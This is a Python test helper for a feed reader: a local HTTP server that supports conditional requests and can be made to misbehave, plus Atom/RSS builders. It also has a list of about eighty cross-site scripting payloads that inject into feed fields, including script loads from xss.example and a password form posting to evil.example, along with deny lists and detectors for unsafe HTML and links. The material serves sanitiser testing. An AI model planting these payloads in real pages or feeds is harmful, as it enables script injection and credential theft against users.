"""Feeds for the news tests: a real HTTP server on 127.0.0.1 that honours conditional requests
(ETag / Last-Modified, 304), counts what it is asked, and can misbehave (a status, a body that
never ends, a slow trickle, a wrong content type).

    with FeedServer({"/a.xml": atom(...)}) as srv:
        url = srv.url("/a.xml")
"""

from __future__ import annotations

import contextlib
import hashlib
import http.server
import threading
import time
from dataclasses import dataclass, field
from email.utils import formatdate
from html import escape
from typing import Any


@dataclass
class Served:
    body: bytes
    content_type: str = "application/atom+xml"
    status: int = 200
    endless: bool = False  # send this body, then filler, forever
    trickle: float = 0.0  # seconds between 64-byte pieces
    etag: bool = True
    last_modified: bool = True
    location: str | None = None  # answer 302 with this Location
    hits: int = 0
    not_modified: int = 0
    headers_seen: list[dict[str, str]] = field(default_factory=list)


class FeedServer:
    def __init__(self, files: dict[str, bytes] | None = None, *, keep_alive: bool = False) -> None:
        self.files: dict[str, Served] = {}
        for path, body in (files or {}).items():
            self.put(path, body)
        self.stamp = formatdate(time.time() - 3600, usegmt=True)
        # Without keep-alive a closed server is gone at once (no connection lingers in a pool).
        handler = type("H", (_Handler,), {"srv": self, "protocol_version":
                                          "HTTP/1.1" if keep_alive else "HTTP/1.0"})
        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
        self.httpd.daemon_threads = True
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self.thread.start()

    def put(self, path: str, body: bytes, **kw: Any) -> Served:
        served = Served(body, **kw)
        self.files[path] = served
        return served

    def url(self, path: str) -> str:
        return f"http://127.0.0.1:{self.httpd.server_address[1]}{path}"

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()

    def __enter__(self) -> FeedServer:
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()


class _Handler(http.server.BaseHTTPRequestHandler):
    srv: FeedServer
    protocol_version = "HTTP/1.1"

    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - stdlib signature
        pass

    def do_GET(self) -> None:  # noqa: N802 - stdlib name
        served = self.srv.files.get(self.path.split("?")[0])
        if served is None:
            self.send_response(404)
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        served.hits += 1
        served.headers_seen.append(dict(self.headers))
        etag = '"' + hashlib.sha256(served.body).hexdigest()[:16] + '"'
        if served.location:
            self.send_response(302)
            self.send_header("Location", served.location)
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        if served.status != 200:
            self.send_response(served.status)
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        fresh = ((served.etag and self.headers.get("If-None-Match") == etag)
                 or (served.last_modified and not served.etag
                     and self.headers.get("If-Modified-Since") == self.srv.stamp))
        if fresh:
            served.not_modified += 1
            self.send_response(304)
            self.end_headers()
            return
        self.send_response(200)
        self.send_header("Content-Type", served.content_type)
        if served.etag:
            self.send_header("ETag", etag)
        if served.last_modified:
            self.send_header("Last-Modified", self.srv.stamp)
        if served.endless or served.trickle:
            self.send_header("Connection", "close")
            self.end_headers()
            with contextlib.suppress(OSError):
                self._stream(served)
            self.close_connection = True
            return
        self.send_header("Content-Length", str(len(served.body)))
        self.end_headers()
        self.wfile.write(served.body)

    def _stream(self, served: Served) -> None:
        if served.trickle:
            for i in range(0, len(served.body), 64):
                self.wfile.write(served.body[i:i + 64])
                self.wfile.flush()
                time.sleep(served.trickle)
            return
        self.wfile.write(served.body)
        filler = b"<entry><title>more</title></entry>" * 2000
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            self.wfile.write(filler)


def entry_xml(guid: str, title: str, *, content: str = "", summary: str = "",
              link: str = "", updated: str | None = "2026-10-01T10:00:00Z", author: str = "",
              extra: str = "", raw_title: bool = False) -> str:
    parts = [f"<id>{escape(guid)}</id>",
             f"<title type=\"html\">{title if raw_title else escape(title)}</title>"]
    if link:
        parts.append(f'<link rel="alternate" href="{escape(link, quote=True)}"/>')
    if updated:
        parts.append(f"<updated>{updated}</updated>")
    if author:
        parts.append(f"<author><name>{escape(author)}</name></author>")
    if summary:
        parts.append(f'<summary type="html">{escape(summary)}</summary>')
    if content:
        parts.append(f'<content type="html">{escape(content)}</content>')
    parts.append(extra)
    return "<entry>" + "".join(parts) + "</entry>"


def atom(title: str, entries: list[str], *, base: str = "") -> bytes:
    xb = f' xml:base="{escape(base, quote=True)}"' if base else ""
    return ('<?xml version="1.0" encoding="utf-8"?>\n'
            f'<feed xmlns="http://www.w3.org/2005/Atom"{xb}><title>{escape(title)}</title>'
            '<id>urn:test</id><updated>2026-10-01T10:00:00Z</updated>'
            + "".join(entries) + "</feed>").encode()


def simple_feed(title: str, n: int, *, prefix: str = "e") -> bytes:
    return atom(title, [entry_xml(f"{prefix}{i}", f"{title} item {i}",
                                  content=f"<p>Body {i} of {escape(title)}</p>",
                                  link=f"https://example.org/{prefix}/{i}",
                                  updated=f"2026-10-{1 + i % 28:02d}T{i % 24:02d}:00:00Z")
                        for i in range(n)])


# -- script injection ------------------------------------------------------------------------

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",  # noqa: E501
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",  # noqa: E501
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.example/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
    "<SCRIPT SRC=http://xss.example/xss.js?< B >",
    "<IMG SRC=\"javascript:alert('XSS')\"",
    "<iframe src=http://xss.example/scriptlet.html <",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",  # noqa: E501
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999\">overlay</div>",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.example/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv\" type=\"image/svg+xml\">",  # noqa: E501
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"JAVASCRIPT:alert(1)\">click</a>",
    "<a href=\"  javascript:alert(1)\">click</a>",
    "<a href=\"java&#0000115;cript:alert(1)\">click</a>",
    "<a href=\"vbscript:msgbox(1)\">vb</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
    "<a href=\"https://good.example@evil.example/\">creds</a>",
    "<a href=\"#\" onclick=\"alert(1)\">onclick</a>",
    "<a href=\"https://ok.example/\" onmouseover=\"alert(1)\">hover</a>",
    "<form action=\"https://evil.example/\"><input name=pw type=password><button>Go</button></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<audio src=x onerror=alert(1)>",
    "<p style=\"color:red\" class=\"x\" id=\"y\" onclick=\"z()\">styled</p>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<img src=\"data:text/html,<script>alert(1)</script>\">",
    "<img srcset=\"javascript:alert(1) 1x\">",
    "<object data=\"javascript:alert(1)\"></object>",
    "<isindex action=javascript:alert(1) type=image>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.cookie)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    " onerror=alert(1) ",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "x\u202eexe.gpj",
    "<a href=\"https://imapp.example/verified\">https://evil.example/</a>",
]

BAD_TAGS = {"script", "iframe", "form", "style", "object", "embed", "svg", "math", "input",
            "button", "textarea", "frame", "frameset", "meta", "link", "base", "applet",
            "template", "noscript", "select", "video", "audio", "source", "bgsound", "isindex",
            "body", "html", "head", "title", "details"}
SAFE_SCHEMES = ("http://", "https://", "mailto:", "imapp://", "news-image:")


def unsafe_html(fragment: str) -> list[str]:
    """What in ``fragment`` could run a script, handle an event, load a remote resource or
    restyle the app (empty: nothing)."""
    import html.parser

    problems: list[str] = []

    class Check(html.parser.HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            if tag in BAD_TAGS:
                problems.append(f"<{tag}>")
            for name, value in attrs:
                v = (value or "").strip()
                if name.startswith("on") or name in ("style", "srcset", "background", "formaction",
                                                     "action", "dynsrc", "lowsrc", "data"):
                    problems.append(f"{tag} {name}={v!r}")
                if name in ("href", "src") and not v.lower().startswith(SAFE_SCHEMES):
                    problems.append(f"{tag} {name}={v!r}")
                if tag == "img" and name == "src" and not v.startswith("news-image:"):
                    problems.append(f"img src={v!r} (not from the cache)")

    Check(convert_charrefs=True).feed(fragment)
    low = fragment.lower()
    for bad in ("<script", "javascript:", "vbscript:"):
        if bad in low:
            problems.append(bad)
    return problems


def unsafe_text(text: str) -> list[str]:
    """What in a plain-text field (title, author, summary, feed name) is markup or a script."""
    import re

    problems = []
    if re.search(r"<\s*[A-Za-z/!?]", text):
        problems.append("markup")
    low = text.lower()
    for bad in ("javascript:", "vbscript:"):
        if bad in low:
            problems.append(bad)
    if re.search(r"\bon[a-z]{3,}\s*=", low):
        problems.append("event handler")
    if any(c in text for c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"):
        problems.append("bidi control")
    return problems


def unsafe_link(url: str) -> list[str]:
    if not url:
        return []
    low = url.lower()
    if not low.startswith(("http://", "https://", "mailto:", "imapp://")):
        return [f"link {url!r}"]
    if "javascript:" in low or "@" in url.split("/")[2 if "//" in url else 0]:
        return [f"link {url!r}"]
    return []


def injection_feeds() -> dict[str, bytes]:
    """One RSS feed per field, one item per vector in that field."""
    from html import escape as esc

    def item(i: int, field: str, v: str) -> str:
        title = f"{field} {i}"
        parts = {"title": f"<title>{esc(v) if field == 'title' else title}</title>",
                 "guid": f"<guid isPermaLink=\"false\">{field}-{i}</guid>",
                 "link": f"<link>{esc(v) if field == 'link' else f'https://example.org/{i}'}</link>",
                 "description": f"<description>{esc(v) if field == 'summary' else 'ok'}</description>"}
        extra = ""
        if field == "content":
            extra += f"<content:encoded><![CDATA[{v}]]></content:encoded>"
        if field == "author":
            extra += f"<dc:creator>{esc(v)}</dc:creator><author>{esc(v)}</author>"
        if field == "image":
            extra += (f"<media:thumbnail url=\"{esc(v, quote=True)}\"/>"
                      f"<content:encoded>{esc(f'<p><img src={chr(34)}{esc(v, quote=True)}{chr(34)}></p>')}"
                      "</content:encoded>")
        if field == "enclosure":
            extra += (f"<enclosure url=\"{esc(v, quote=True)}\" type=\"image/png\" length=\"1\"/>"
                      f"<enclosure url=\"{esc(v, quote=True)}\" type=\"audio/mpeg\" length=\"1\"/>")
        return "<item>" + "".join(parts.values()) + extra + "</item>"

    feeds = {}
    for where in ("title", "summary", "content", "link", "image", "author", "enclosure"):
        items = "".join(item(i, where, v) for i, v in enumerate(VECTORS))
        feeds[f"/{where}.xml"] = (
            '<?xml version="1.0" encoding="utf-8"?><rss version="2.0" '
            'xmlns:content="http://purl.org/rss/1.0/modules/content/" '
            'xmlns:dc="http://purl.org/dc/elements/1.1/" '
            'xmlns:media="http://search.yahoo.com/mrss/">'
            f"<channel><title>{esc(VECTORS[0]) if where == 'title' else where}</title>"
            f"<link>https://example.org/</link>{items}</channel></rss>").encode()
    return feeds
